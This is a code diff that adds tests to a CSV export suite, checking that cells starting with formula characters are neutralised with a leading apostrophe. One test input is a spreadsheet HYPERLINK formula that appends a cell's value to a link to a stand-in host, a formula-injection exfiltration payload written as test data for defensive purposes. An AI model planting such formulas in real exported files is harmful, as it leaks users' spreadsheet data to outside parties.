@@ -43,4 +43,23 @@ describe('report table and CSV', () => {
     });
     expect(csv).toBe('\uFEFF"Thôn Đông, xã Hòa Lạc",3\r\n"Nói ""không"" với lừa đảo",\r\n');
   });
+
+  // A spreadsheet program runs a cell that begins with = + - @ (or a tab or carriage return before
+  // one) as a formula: a village named =HYPERLINK(…) must come out as the text it is.
+  it.each([
+    [
+      'a formula',
+      '=HYPERLINK("http://x.example/?"&A1,"Bấm")',
+      `"'=HYPERLINK(""http://x.example/?""&A1,""Bấm"")"`,
+    ],
+    ['a plus', '+84 912 345 678', "'+84 912 345 678"],
+    ['a minus', '-2+3', "'-2+3"],
+    ['an at sign', '@SUM(A1:A9)', "'@SUM(A1:A9)"],
+    ['a tab', '\t=1+1', "'\t=1+1"],
+    ['a carriage return', '\r=1+1', `"'\r=1+1"`],
+    ['plain text', 'Thôn Đông', 'Thôn Đông'],
+    ['a negative number', -3, '-3'],
+  ] as const)('CSV neutralises %s', (_name, cell, out) => {
+    expect(toCsv({ title: 't', rows: [[cell]] })).toBe(`\uFEFF${out}\r\n`);
+  });
 });
